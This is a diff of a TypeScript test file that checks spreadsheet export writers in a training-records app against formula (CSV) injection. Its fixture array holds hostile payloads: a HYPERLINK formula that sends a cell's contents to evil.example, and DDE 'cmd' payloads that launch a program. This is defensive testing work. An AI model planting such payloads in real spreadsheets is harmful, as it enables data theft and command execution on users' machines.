@@ -13,11 +13,11 @@ import { GAP_COLUMNS, gapCells } from '../../src/lib/server/coverage/exports.ts'
 import type { GapRow } from '../../src/lib/server/coverage/coverage.query.ts';
 import { buildDirectoryTemplateXlsx } from '../../src/lib/server/orgs/directory-excel.ts';
 import { buildNoticeXlsx } from '../../src/lib/server/supervision/notice-xlsx.ts';
-
-// OWASP CSV injection: text beginning with = + - @ tab or CR must not reach a spreadsheet as is.
 import { attendanceXlsx } from '../../src/lib/server/live/attendance-export.ts';
 import type { ConsoleView } from '../../src/lib/server/live/console.ts';
 import type { LiveClassRow } from '../../src/lib/server/live/live.repository.ts';
+
+// OWASP CSV injection: text beginning with = + - @ tab or CR must not reach a spreadsheet as is.
 const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
 const h = (i: number) => HOSTILE[i % HOSTILE.length]!;
 const DANGEROUS = /^[=+\-@\t\r]/;
@@ -94,34 +94,32 @@ const archive = (): { summary: EnterpriseArchive; details: PersonArchive[] } => 
 		org: { id: 1, name: h(0), industryName: null, highRisk: false },
 		year: 2026,
 		xueshiMinutes: 45,
-		rows: HOSTILE.map((_, i) => ({ personId: i, name: h(i), idNumberMasked: h(i + 1), roleCategory: 'frontline', roleCategoryLabel: h(i + 2), position: h(i + 3), requirementTitle: h(i + 4), requiredXueshi: 20, creditedSeconds: 0, creditedXueshi: -1, coursesAssigned: 1, coursesCompleted: 0, lastStudyOn: h(i + 5), status: 'unmet' })),
+		rows: HOSTILE.map((_, i) => ({ personId: i, name: h(i), idNumberMasked: h(i + 1), roleCategory: 'frontline', roleCategoryLabel: h(i + 2), position: h(i + 3), requirementTitle: h(i + 4), requiredXueshi: 20, creditedSeconds: 0, creditedXueshi: -1, liveSeconds: 0, replaySeconds: 0, coursesAssigned: 1, coursesCompleted: 0, lastStudyOn: h(i + 5), status: 'unmet' })),
 		counts: { met: 0, unmet: 6, none: 0 }
 	} as unknown as EnterpriseArchive;
 	const details = HOSTILE.map((_, i) => ({
 		person: { id: i, name: h(i), idNumberMasked: h(i + 1), roleCategoryLabel: h(i + 2) },
-		courses: [{ title: h(i + 3), trainingTypeLabel: h(i + 4), planYear: 2026, dueOn: h(i + 5), enrolmentStatus: 'active', lessonsDone: 0, lessonsTotal: 1, creditedXueshi: 0, courseXueshi: 1, firstStudyOn: null, lastStudyOn: null, completedOn: null, completedAt: null }]
+		courses: [{ title: h(i + 3), trainingTypeLabel: h(i + 4), planYear: 2026, dueOn: h(i + 5), enrolmentStatus: 'active', lessonsDone: 0, lessonsTotal: 1, creditedXueshi: 0, courseXueshi: 1, firstStudyOn: null, lastStudyOn: null, completedOn: null, completedAt: null }],
+		live: [{ classId: i, title: h(i + 4), day: h(i + 5), liveSeconds: 60, replaySeconds: 0, replayRule: 'live_only', late: false, creditedLiveSeconds: 60, creditedReplaySeconds: 0, creditedXueshi: 0 }]
 	})) as unknown as PersonArchive[];
 	return { summary, details };
 };
 
 // One entry per export writer; the guard below fails when a writer is added without one.
 const EXPORTS: Record<string, { file: string; build: () => Promise<Buffer> }> = {
-	'live class attendance': {
+	'live class attendance sheet': {
 		file: 'src/lib/server/live/attendance-export.ts',
-		build: () => {
-			const at = new Date('2026-06-01T01:00:00Z');
-			const cls = { id: 1, owner_org_id: 1, title: h(0), lecturer_user_id: 1, lecturer_name: h(1), starts_at: at, ends_at: at, audience: {}, credit_hours: 1, signin_before_minutes: 0, signin_after_minutes: 0, replay_rule: 'live_only', playback_name: 'x', replay_file: null, replay_seconds: null, cancelled_at: null, created_at: at } as unknown as LiveClassRow;
-			const attendance = HOSTILE.map((_, i) => ({ personId: i, name: h(i), idNumber: '110101199003070011', orgName: h(i + 1), roleCategory: h(i + 2), signedInAt: null, late: false, liveMinutes: 1, replayMinutes: 0, creditedHours: 0, rollCallsAnswered: 0, watching: false }));
-			return attendanceXlsx(cls, { phase: 'ended', streamUp: false, streamMinutes: 0, watching: 0, invited: 0, attended: 0, rollCalls: 0, capHours: 1, keyIssued: null, attendance, questions: [] } as unknown as ConsoleView);
-		}
+		build: () =>
+			attendanceXlsx(
+				{ title: h(0), lecturer_name: h(1), starts_at: new Date(0), ends_at: new Date(3600_000), replay_rule: 'live_only' } as unknown as LiveClassRow,
+				{
+					capHours: 1,
+					streamMinutes: 1,
+					rollCalls: 1,
+					attendance: HOSTILE.map((_, i) => ({ personId: i, name: h(i), idNumber: h(i + 1), orgName: h(i + 2), roleCategory: h(i + 3), signedInAt: null, late: false, liveMinutes: 1, replayMinutes: 0, creditedHours: 0, rollCallsAnswered: 0, watching: false }))
+				} as unknown as ConsoleView
+			)
 	},
-	'question bank export': { file: 'src/lib/server/question-bank/excel.ts', build: () => exportQuestionsXlsx({ code: 'inj', name: h(0) }, HOSTILE.map((_, i) => question(i))) },
-	'question bank template': { file: 'src/lib/server/question-bank/excel.ts', build: () => buildTemplateXlsx() },
-	'staff template (special operations from the database)': {
-		file: 'src/lib/server/people/staff-excel.ts',
-		build: () => buildStaffTemplateXlsx(HOSTILE.map((_, i) => ({ code: h(i), category: h(i + 1), item: h(i + 2) })))
-	},
-	'exam results': { file: 'src/lib/server/exams/results.query.ts', build: () => buildResultsXlsx({ name: h(0), opensAt: new Date(0), closesAt: new Date(0) }, HOSTILE.map((_, i) => resultRow(i)), new Date(0)) },
 	'training archive': { file: 'src/lib/server/study/archive-xlsx.ts', build: () => buildArchiveXlsx(archive().summary, archive().details, { generatedAt: new Date(0) }) },
 	'enterprise directory template (regions and industries from the database)': {
 		file: 'src/lib/server/orgs/directory-excel.ts',
